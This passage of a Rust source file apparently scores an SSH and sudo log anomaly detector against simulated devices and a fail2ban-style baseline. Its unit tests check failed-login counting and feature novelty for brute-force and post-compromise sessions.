    pub kind: RecordKind,
    /// A campaign alert rather than an analyzer window.
    pub alert: bool,
    /// The address.
    pub ip: Option<IpAddr>,
    /// The observation itself (for the real-log groups' filters).
    pub obs: Observation,
    /// The fingerprint the analyzer made.
    pub fingerprint: Fingerprint,
    /// The agent-schema vector at scoring time.
    pub features: [f32; AGENT_FEATURE_COUNT],
    /// The final verdict of the run (the `decide` verdict, raised by the
    /// rules when they are on).
    pub predicted: bool,
    /// The fail2ban rule (5 failures in 10 minutes) had banned the address
    /// by the observation's end.
    pub fail2ban: bool,
    /// The detectors' rules whose condition held (see `Judgement::fired`).
    pub fired: Vec<Rule>,
    /// A rule raised the model's Normal to Suspicious.
    pub escalated: bool,
}

impl Row {
    /// The label.
    pub fn suspicious(&self) -> bool {
        self.class.is_attack()
    }
}

fn class_of(device: &Device, obs: &Observation) -> Class {
    match (obs.kind, obs.source_ip) {
        (RecordKind::Device, _) | (_, None) => {
            let end = obs.end.unwrap_or(obs.start);
            if device.attacks.iter().any(|&(s, e)| s <= end && e >= obs.start) {
                Class::DeviceUnderAttack
            } else {
                Class::QuietDeviceWindow
            }
        }
        (_, Some(ip)) => device.owners.get(&ip).copied().unwrap_or(Class::QuietDeviceWindow),
    }
}

/// Reads a device's log as the agent does (analyzer → attempts to the
/// detectors → each observation assessed, decided, judged, learnt if
/// Normal), with `decide` giving the verdict from the observation, its
/// label and its assessment; `session_rules` say which rules may raise a
/// session's verdict on top.
pub fn run(
    device: &Device,
    session_rules: SessionRules,
    decide: &mut dyn FnMut(&Observation, bool, &Assessment) -> Verdict,
) -> Vec<Row> {
    let config = AnalyzerConfig { reference_time: Some(device.end + 60), ..AnalyzerConfig::default() };
    run_with(device, config, LogFormat::Syslog, session_rules, decide)
}

/// As [`run`], with the analyzer's configuration and the log's format given
/// (real logs: their own year and format).
pub fn run_with(
    device: &Device,
    config: AnalyzerConfig,
    format: LogFormat,
    session_rules: SessionRules,
    decide: &mut dyn FnMut(&Observation, bool, &Assessment) -> Verdict,
) -> Vec<Row> {
    let mut engine =
        Engine::new(EngineConfig { analyzer: config, detect: DetectConfig::default(), format: Some(format) });
    let mut scorer = TruthScorer {
        device,
        decide,
        session_rules,
        rule: ThresholdRule::fail2ban(),
        banned: HashMap::new(),
        pending: Vec::new(),
    };
    let mut rows = Vec::new();
    let mut judged = Vec::new();
    // Drained after every line, as a busy agent would: each observation is
    // judged as soon as the analyzer completes it.
    for line in &device.lines {
        engine.feed(line);
        engine.drain(&mut scorer, &mut judged);
        scorer.rows(&mut judged, &mut rows);
    }
    engine.finish(&mut scorer, &mut judged);
    scorer.rows(&mut judged, &mut rows);
    rows
}

/// The engine's scorer for simulated devices: `decide` gives the verdict from
/// the truth; beside it the fail2ban rule sees every attempt.
struct TruthScorer<'a> {
    device: &'a Device,
    decide: &'a mut dyn FnMut(&Observation, bool, &Assessment) -> Verdict,
    session_rules: SessionRules,
    rule: ThresholdRule,
    /// When the fail2ban rule first banned each address.
    banned: HashMap<IpAddr, i64>,
    /// Class and fail2ban flag of each observation scored, in the order the
    /// engine hands the judged ones back.
    pending: Vec<(Class, bool)>,
}

impl Score for TruthScorer<'_> {
    fn score(&mut self, obs: &Observation, assessment: &Assessment) -> Scored {
        let class = class_of(self.device, obs);
        let end = obs.end.unwrap_or(obs.start);
        let fail2ban = obs.source_ip.and_then(|ip| self.banned.get(&ip)).is_some_and(|&t| t <= end);
        self.pending.push((class, fail2ban));
        Scored { verdict: (self.decide)(obs, class.is_attack(), assessment), reasons: Vec::new() }
    }

    fn session_rules(&self) -> SessionRules {
        self.session_rules
    }

    fn attempt(&mut self, a: &AuthAttempt) {
        if !a.success && self.rule.failure(a.source, a.at) {
            self.banned.entry(a.source).or_insert(a.at);
        }
    }
}

impl TruthScorer<'_> {
    /// The judged observations as rows, with what was noted when each was scored.
    fn rows(&mut self, judged: &mut Vec<Judged>, rows: &mut Vec<Row>) {
        for (j, (class, fail2ban)) in judged.drain(..).zip(self.pending.drain(..)) {
            let obs = j.observation;
            rows.push(Row {
                device: self.device.index,
                class,
                kind: obs.kind,
                alert: j.alert.is_some(),
                ip: obs.source_ip,
                fingerprint: obs.fingerprint,
                obs,
                features: j.features,
                predicted: j.prediction.is_suspicious(),
                fail2ban,
                fired: j.judgement.fired,
                escalated: j.judgement.escalated,
            });
        }
    }
}

/// The oracle run used for training: the verdict is the label, so the
/// baselines learn exactly the benign sessions (an agent whose model never
/// errs; see the card's caveats), and no rule is layered on top.
pub fn labelled_run(device: &Device) -> Vec<Row> {
    run(device, SessionRules::Off, &mut |_, label, _| Verdict::flat(label, 1.0, AGENT_FEATURE_COUNT))
}

#[cfg(test)]
mod tests {
    use super::*;
    use bfp_common::schema::NOVELTY_START;
    use bfp_logs::Analyzer;

    fn small() -> TimelineConfig {
        TimelineConfig { days: 8, devices: 2, holdout: 1, ..TimelineConfig::default() }
    }

    #[test]
    fn a_device_log_is_deterministic_ordered_and_read_without_unknown_lines() {
        let cfg = small();
        let a = device(&cfg, 0);
        assert_eq!(a.lines, device(&cfg, 0).lines);
        assert_ne!(a.lines, device(&cfg, 1).lines);
        let mut analyzer = Analyzer::new(AnalyzerConfig { reference_time: Some(a.end), ..AnalyzerConfig::default() });
        for line in &a.lines {
            analyzer.feed_line(line, LogFormat::Syslog);
        }
        let stats = analyzer.stats();
        assert_eq!(stats.unknown_total(), 0, "{:?}", stats.unknown);
        assert!(stats.sessions > 100 && stats.failed_logins > 100, "{stats:?}");
    }

    #[test]
    fn a_rhel_device_counts_each_failure_once_and_its_insiders_are_refused() {
        let cfg = TimelineConfig { devices: 3, ..small() };
        let d = device(&cfg, 2);
        let pam = d.lines.iter().filter(|l| l.contains("pam_unix(sshd:auth): authentication failure")).count();
        let sshd = d.lines.iter().filter(|l| l.contains("Failed password for")).count();
        assert!(pam > 10, "a RHEL-style device writes pam_unix's failure lines");
        let more = d.lines.iter().filter(|l| l.contains("more authentication failures")).count();
        assert!(more > 0 && pam < sshd, "pam_unix writes a connection's first failure, then PAM N more");
        let refusals = d
            .lines
            .iter()
            .filter(|l| {
                l.contains("sudo:") && l.contains(" ; TTY=") && l.contains("NOT in sudoers")
                    || l.contains("command not allowed")
                    || l.contains("incorrect password attempts")
                    || l.contains("FAILED SU")
            })
            .count();
        assert!(refusals > 0);
        let mut analyzer = Analyzer::new(AnalyzerConfig { reference_time: Some(d.end), ..AnalyzerConfig::default() });
        for line in &d.lines {
            analyzer.feed_line(line, LogFormat::Syslog);
        }
        let stats = analyzer.stats();
        assert_eq!(stats.unknown_total(), 0, "{:?}", stats.unknown);
        // The pam_unix line and sshd's own are one failure, and PAM's `N
        // more` repeats what sshd's lines counted. A refused sudo password
        // or su is a failure too (of the local account).
        let local = d.lines.iter().filter(|l| l.contains("(sudo:auth)") || l.contains("FAILED SU")).count();
        let sudo_tries: u64 = d
            .lines
            .iter()
            .filter(|l| l.contains("incorrect password attempts"))
            .map(|l| l.split(" : ").nth(1).and_then(|r| r.split(' ').next()).unwrap().parse::<u64>().unwrap() - 1)
            .sum();
        assert_eq!(stats.failed_logins, (sshd + local) as u64 + sudo_tries, "{stats:?}");
        assert_eq!(stats.privilege_refusals, refusals as u64);
    }

    #[test]
    fn rows_carry_every_class_and_features_from_the_shared_builder() {
        let cfg = small();
        let d = device(&cfg, 0);
        let rows = labelled_run(&d);
        for class in [Class::OfficeWorker, Class::Automation, Class::FastBruteForce, Class::PostCompromise] {
            assert!(rows.iter().any(|r| r.class == class), "{class:?}");
        }
        // Features are the shared builder's: the first seven are the fingerprint's.
        for r in &rows {
            assert_eq!(r.features[..7], r.fingerprint.features());
        }
        // The oracle run learns the benign users: a known user from home is not novel.
        let late_office = rows
            .iter()
            .rfind(|r| r.class == Class::OfficeWorker && r.kind == RecordKind::Session)
            .expect("office sessions");
        let never_seen = NOVELTY_START;
        assert_eq!(late_office.features[never_seen], 0.0);
        // A post-compromise session is from a network new to its user.
        let pc = rows.iter().find(|r| r.class == Class::PostCompromise && r.kind == RecordKind::Session).unwrap();
        assert_eq!(pc.features[NOVELTY_START + 2], 1.0, "new_network_for_user");
    }
}
